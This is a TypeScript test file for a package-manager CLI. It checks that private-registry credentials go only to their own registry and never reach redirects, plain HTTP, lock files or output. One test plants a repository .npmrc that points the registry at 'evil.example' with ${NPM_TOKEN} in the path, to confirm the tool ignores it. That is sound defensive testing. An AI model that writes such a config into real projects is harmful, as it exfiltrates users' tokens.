// Registries that want a login: it is found where npm, uv and we are told of it, sent to its place alone, and stands
// neither in the lock nor in anything that is said.

import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { memorySystem, type Tree } from '../../src/system/memory.ts';
import { hatch, type Placed } from '../support/cli.ts';
import { type Answer, packument, pythonPages, registryPages, web } from '../support/web.ts';

const manifestPath = '/home/ada/work/hatch.mcp.yaml';
const lockPath = '/home/ada/work/hatch.mcp.lock.yaml';
const manifest = 'version: 1\nname: acme\nenvironments: { main: { servers: {} } }\ntargets: { cursor: {} }\n';
const token = 'npm_k3pDn0tT0BeSeen';
const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`;

/** The page for whoever brings this header; 401 for all others. */
const locked =
  (authorization: string, page: Answer): Answer =>
  (_url: URL, headers: Readonly<Record<string, string>>) =>
    headers.authorization === authorization ? page : { status: 401 };

/** The same for each page of a host, moved to another. */
function lockedAt(host: string, authorization: string, pages: Readonly<Record<string, Answer>>) {
  return Object.fromEntries(
    Object.entries(pages).map(([at, page]) => [at.replace(/^[^/]+/, host), locked(authorization, page)]),
  );
}

interface Private {
  readonly says: string;
  readonly line?: string;
  readonly npmrc?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly pages: Readonly<Record<string, Answer>>;
  /** What the lock has as source; undefined where the login is not taken. */
  readonly source: string | undefined;
}

const kiln = packument('@acme/kiln', ['1.0.0']);
const own = { 'npm.acme.example/team/@acme%2fkiln': locked(`Bearer ${token}`, kiln) };
const scoped = '@acme:registry=https://npm.acme.example/team/\n';
const listing = registryPages('mcp.acme.example', [
  { name: 'com.acme/kiln', version: '1.0.0', remotes: [{ type: 'sse', url: 'https://kiln.acme.example/sse' }] },
]);

const cases: readonly Private[] = [
  {
    says: 'a token of npm, by a variable',
    npmrc: `; ours\n${scoped}//npm.acme.example/team/:_authToken = \${NPM_TOKEN}\n`,
    env: { NPM_TOKEN: token },
    pages: own,
    source: 'https://npm.acme.example/team',
  },
  {
    says: 'a token of npm for all of a host',
    npmrc: `${scoped}//npm.acme.example/:_authToken="${token}"\n`,
    pages: own,
    source: 'https://npm.acme.example/team',
  },
  {
    says: 'a variable of npm that is not set',
    npmrc: `${scoped}//npm.acme.example/team/:_authToken=\${NPM_TOKEN}\n`,
    pages: own,
    source: undefined,
  },
  {
    says: 'a token of npm for another path',
    npmrc: `${scoped}//npm.acme.example/teams/:_authToken=${token}\n`,
    pages: own,
    source: undefined,
  },
  {
    says: 'a user and a password of npm, for the one registry',
    npmrc: `registry = https://npm.acme.example\n//npm.acme.example/:username=ada\n//npm.acme.example/:_password=${Buffer.from(token).toString('base64')}\n`,
    pages: { 'npm.acme.example/@acme%2fkiln': locked(basic(`ada:${token}`), kiln) },
    source: 'https://npm.acme.example',
  },
  {
    says: 'a file of npm that a variable names',
    env: { npm_config_userconfig: '/etc/npmrc', npm_config_registry: 'https://npm.acme.example/team' },
    npmrc: '//npm.acme.example/team/:_authToken=not-this-one\n',
    pages: own,
    source: 'https://npm.acme.example/team',
  },
  {
    says: 'a user and a password in the address of the index',
    line: 'package add pypi:clock',
    env: { UV_DEFAULT_INDEX: `https://ada:${token}%21@py.acme.example/simple/` },
    pages: lockedAt('py.acme.example', basic(`ada:${token}!`), pythonPages('clock', ['1.0'])),
    source: 'https://py.acme.example',
  },
  {
    says: 'a user and a password in the address of the registry',
    line: 'package add com.acme/kiln',
    env: { HATCH_REGISTRY: `https://ada:${token}@mcp.acme.example` },
    pages: lockedAt('mcp.acme.example', basic(`ada:${token}`), listing),
    source: 'https://mcp.acme.example',
  },
];

function machine({ npmrc, env = {}, pages }: Pick<Private, 'npmrc' | 'env' | 'pages'>, text = manifest) {
  const files: Tree = {
    [manifestPath]: text,
    '/etc/npmrc': `//npm.acme.example/team/:_authToken=${token}\n`,
    ...(npmrc !== undefined && { '/home/ada/.npmrc': npmrc }),
  };
  const system = memorySystem(files, { cwd: '/home/ada/work', env: { HATCH_MANIFEST: manifestPath, ...env } });
  const network = web(pages);
  return { system, network, run: (line: string) => hatch({ ...system, network } as Placed, line.split(' ')) };
}

for (const { says, line = 'package add npm:@acme/kiln', source, ...rest } of cases) {
  test(`${says}: ${source === undefined ? 'no login' : 'the login is taken'}`, async () => {
    const { system, run } = machine(rest);
    const { code, stdout, stderr } = await run(line);
    assert.is(code, source === undefined ? 1 : 0, stderr);
    if (source === undefined) assert.match(stderr, 'wants a login (401)');
    else assert.match(system.tree()[lockPath] ?? '', `source: ${source}\n`);
    const history = await run('history');
    assert.not.ok(`${stdout}${stderr}${history.stdout}${system.tree()[lockPath]}`.includes(token));
  });
}

test('a login is not sent where its registry redirects to', async () => {
  const seen: (string | undefined)[] = [];
  const { run } = machine({
    npmrc: `${scoped}//npm.acme.example/:_authToken=${token}\n`,
    pages: {
      'npm.acme.example/team/@acme%2fkiln': { status: 302, headers: { location: 'https://cdn.example/kiln' } },
      'cdn.example/kiln': (_url: URL, headers: Readonly<Record<string, string>>) => {
        seen.push(headers.authorization);
        return kiln;
      },
    },
  });
  assert.is((await run('package add npm:@acme/kiln')).code, 0);
  assert.equal(seen, [undefined]);
});

const unencrypted: readonly (readonly [says: string, npmrc: string, sent: string | undefined])[] = [
  ['which a manifest alone calls so', '', undefined],
  ['which npm is told of encrypted', 'registry=https://mcp.acme.example/\n', undefined],
  ['which npm is told of so', 'registry=http://mcp.acme.example/npm/\n', `Bearer ${token}`],
  ['which npm is told of so for a scope', '@acme:registry=http://mcp.acme.example/npm/\n', `Bearer ${token}`],
];

for (const [says, npmrc, sent] of unencrypted) {
  test(`unencrypted http to a host ${says}: the login is ${sent === undefined ? 'not ' : ''}sent`, async () => {
    const seen = new Set<string | undefined>();
    const page = (_url: URL, headers: Readonly<Record<string, string>>) => {
      seen.add(headers.authorization);
      return { status: 401 };
    };
    const pages = Object.fromEntries(Object.keys(listing).map((at) => [at, page]));
    const text = `${manifest}registries: ["http://mcp.acme.example"]\n`;
    const { run } = machine({ npmrc: `${npmrc}//mcp.acme.example/:_authToken=${token}\n`, pages }, text);
    await run('package add com.acme/kiln');
    assert.equal([...seen], [sent]);
  });
}

test('the npmrc of a repository is not read: it could send a token anywhere', async () => {
  const { system, network, run } = machine({ env: { NPM_TOKEN: token }, pages: {} });
  system.put('/home/ada/work/.npmrc', `registry=https://evil.example/\${NPM_TOKEN}/\n`);
  await run('package add npm:@acme/kiln');
  assert.equal(
    network.asked.map((address) => new URL(address).host),
    ['registry.npmjs.org'],
  );
});

const written: readonly (readonly [line: string, text: string, says: string])[] = [
  [`package add mcpb:https://ada:${token}@kiln.example/k.mcpb`, manifest, 'an address in it holds a login'],
  [`package add oci:https://ada:${token}@kiln.example/k`, manifest, 'an address in it holds a login'],
  [
    'package search kiln',
    `${manifest}registries: ["https://ada:${token}@mcp.acme.example"]\n`,
    'a manifest holds no login, and `registries` has one for https://mcp.acme.example',
  ],
];

for (const [line, text, says] of written) {
  test(`${line.replace(token, '…')}: no login is taken from what others read, nor said`, async () => {
    const { network, run } = machine({ pages: {} }, text);
    const { code, stdout, stderr } = await run(line);
    assert.ok(code === 64 || code === 5, stderr);
    assert.match(stderr, says);
    assert.not.ok(`${stdout}${stderr}`.includes(token));
    assert.equal(network.asked, []);
  });
}

test.run();
